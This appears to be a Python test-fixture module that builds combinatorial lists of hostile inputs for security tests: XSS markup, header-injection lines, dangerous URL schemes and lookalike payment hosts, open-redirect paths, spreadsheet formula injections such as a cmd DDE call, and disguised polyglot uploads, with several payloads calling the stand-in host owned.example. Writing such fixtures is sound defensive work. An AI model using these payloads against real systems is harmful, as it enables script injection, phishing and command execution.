"""What people with bad intentions type: written by us, by combining what such texts are made of.

The word `owned` marks what would run, so that a test can tell whether it came through.
"""

from __future__ import annotations

from itertools import product
from typing import Final

_OPENERS: Final = ("", '">', "'>", "`>", "</title>", "</textarea>", "-->", "]]>", "</script>", '\\">')
_ELEMENTS: Final = (
    "<script>owned()</script>",
    "<ScRiPt>owned()</sCrIpT>",
    "<script src=//owned.example></script>",
    "<img src=x onerror=owned()>",
    "<img/src=x/onerror=owned()>",
    "<svg onload=owned()>",
    "<svg><animate onbegin=owned() attributeName=x>",
    "<body onload=owned()>",
    "<details open ontoggle=owned()>",
    "<input autofocus onfocus=owned()>",
    "<a href=javascript:owned()>x</a>",
    "<a href='java\tscript:owned()'>x</a>",
    "<iframe srcdoc='<script>owned()</script>'>",
    "<iframe src=data:text/html,owned>",
    "<form action=//owned.example><button>x",
    "<meta http-equiv=refresh content='0;url=//owned.example'>",
    "<base href=//owned.example/>",
    "<link rel=stylesheet href=//owned.example>",
    "<style>@import '//owned.example'</style>",
    "<math><mi xlink:href=javascript:owned()>x",
    "<object data=//owned.example>",
    "<template><b>owned</b></template>",
    "<!--owned-->",
    "<![CDATA[owned]]>",
    "<b onmouseover=owned()>x</b>",
    "<tg-spoiler>owned</tg-spoiler>",
    "<h1>owned</h1>",
    "<table><tr><td>owned",
)
_TEMPLATES: Final = (
    "{{ 7 * 7 }}owned", "{% raw %}owned{% endraw %}", "${owned}", "#{owned}", "%(owned)s", "{owned}", "{0}",
    "&lt;script&gt;owned()&lt;/script&gt;", "&#60;script&#62;owned()", "&owned;", "&amp;lt;b&amp;gt;owned",
    "\u202eowned\u202c", "%s%s%s", "＜script＞owned()＜/script＞", "\ufeff<b>owned</b>",
)  # fmt: skip

HTML: Final = tuple([opener + element for opener, element in product(_OPENERS, _ELEMENTS)] + list(_TEMPLATES))
"""Markup, and what becomes markup when it is decoded or filled in once too often."""

_BREAKS: Final = (
    "\r\n",
    "\n",
    "\r",
    "\u2028",
    "\u2029",
    "\x85",
    "\v",
    "\f",
    "%0d%0a",
    "\\r\\n",
    "=0D=0A",
    "\r\n ",
    "\n\t",
)
_HEADERS: Final = (
    "Bcc: owned@owned.example",
    "To: owned@owned.example",
    "Subject: owned",
    "Reply-To: owned@owned.example",
    "Content-Type: text/html",
    "X-Owned: 1",
    "List-Unsubscribe: <https://owned.example>",
    "\r\nowned body",
    "Set-Cookie: owned=1",
    "Location: https://owned.example",
)
HEADER_LINES: Final = tuple(f"Ben{breaks}{header}" for breaks, header in product(_BREAKS, _HEADERS))
"""A name or subject that would start a header of its own."""

_CODE: Final = (
    "javascript:owned()", "JaVaScRiPt:owned()", " javascript:owned()",
    "java\tscript:owned()",
    "java\nscript:owned()", "javascript&colon;owned()", "javascript://owned.example/%0aowned()",
    "vbscript:owned()",
    "data:text/html,<script>owned()</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "blob:https://owned.example/x",
    "file:///etc/passwd", "ftp://owned.example/", "intent://owned#Intent;end",
    "view-source:https://owned.example",
    "about:blank", "mailto:owned@owned.example", "tel:+1", "sms:+1", "ws://owned.example",
    "jar:https://owned.example!/", "\x01javascript:owned()", "javascript\x00:owned()",
    "&#106;avascript:owned()",
    "//owned.example", "///owned.example",
)  # fmt: skip
_HOSTS: Final = (
    "https://paypal.me@owned.example/olga",
    "https://paypal.me:secret@owned.example/",
    "https://paypal.me%40owned.example/",
    "https://paypal.me\\@owned.example/",
    "https://раypal.me/olga",
    "https://paypal.me\u3002owned.example/",
    "https://ｐaypal.me/olga",
    "https://{amount}.owned.example/",
    "https://{reference}/",
    "https://paypal.me/{password}",
    "https:/\\owned.example",
    "https:owned.example",
    "https:///owned.example",
    "https://[::1/",
    "https://owned.example:99999/",
    "https://owned .example/",
    'https://owned.example/"onclick=owned()',
    "https://owned.example/<script>",
    "https://owned.example/'x",
    "https://owned.example/`x`",
    "https://",
    "https://.",
    "https://-owned.example-/",
    "http://",
    "upi://",
)
LINKS: Final = (*_CODE, *_HOSTS)
"""Payment links that run something, hide where they lead, or lead nowhere."""

_LEADS: Final = (
    "",
    "/",
    "//",
    "///",
    "\\",
    "/\\",
    "\\\\",
    "/%09/",
    "/\t/",
    "/%5c",
    "/.//",
    "/..//",
    "%2f%2f",
    "https:",
    "https://",
    "https:/",
    "http://127.0.0.1:8000@",
    "javascript:",
    "/\r\n",
    "\u2215\u2215",
    "./",
    "?//",
    "#//",
    " //",
    "//%00",
)
_GOALS: Final = (
    "owned.example",
    "owned.example/groups",
    "owned.example%2f..",
    "owned.example?/",
    "owned.example#/",
    "@owned.example",
    "127.0.0.1.owned.example",
)
REDIRECTS: Final = tuple(lead + goal for lead, goal in product(_LEADS, _GOALS))
"""Pages of other sites, as one would put them behind `next=`."""

_FORMULAS: Final = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "=-", "@=", "'=")
_FUNCTIONS: Final = (
    "cmd|' /C owned'!A0",
    'HYPERLINK("https://owned.example","x")',
    "1+1",
    'IMPORTXML("//owned")',
    "SUM(A1)",
    'DDE("owned")',
    'WEBSERVICE("//owned")',
)
FORMULAS: Final = tuple(sign + function for sign, function in product(_FORMULAS, _FUNCTIONS))
"""What a spreadsheet would work out."""

_BEGINNINGS: Final = (
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='owned()'/>",
    b"<?xml version='1.0'?><svg><script>owned()</script></svg>",
    b"<!doctype html><script>owned()</script>",
    b"<html><body onload=owned()>",
    b"GIF89a/*<script>owned()</script>*/=1;",
    b"GIF87a\x01\x00\x01\x00\x00\x00\x00;<script>owned()</script>",
    b"BM<script>owned()</script>",
    b"\x89PNG\r\n\x1a\n<script>owned()</script>",
    b"\xff\xd8\xff\xe0<script>owned()</script>",
    b"RIFF\x00\x00\x00\x00WEBP<script>owned()</script>",
    b"%!PS-Adobe-3.0\n(owned) show",
    b"PK\x03\x04owned.docm",
    b"\x7fELFowned",
    b"MZowned",
    b"#!/bin/sh\nowned",
    b"\x1f\x8bowned",
    b"7z\xbc\xaf\x27\x1c",
    b"Rar!\x1a\x07",
    b"II*\x00\x08\x00\x00\x00",
    b"MM\x00*\x00\x00\x00\x08",
    b"\x00\x00\x00\x1cftypheic",
    b"\x00\x00\x00\x1cftypavif",
    b"\x00\x00\x01\x00\x01\x00",
    b"8BPS\x00\x01",
    b"push graphic-context\nfill 'url(https://owned.example)'",
    b"{\\rtf1 owned}",
    b"From: owned\nSubject: owned\n\nowned",
    b"owned,=1+1\n",
    b"",
    b"\x00" * 64,
)
_NAMES: Final = (
    "proof.jpg",
    "proof.png",
    "../../owned.png",
    "owned.svg",
    "owned.html",
    "owned.php;.jpg",
    "C:\\owned.pdf",
    "a" * 300 + ".pdf",
    "\u202egpj.exe",
)
UPLOADS: Final = tuple(product(_BEGINNINGS, _NAMES))
"""Files that are no picture or PDF, whatever they are called."""


def count() -> int:
    """Count all cases."""
    return sum(map(len, (HTML, HEADER_LINES, LINKS, REDIRECTS, FORMULAS, UPLOADS)))
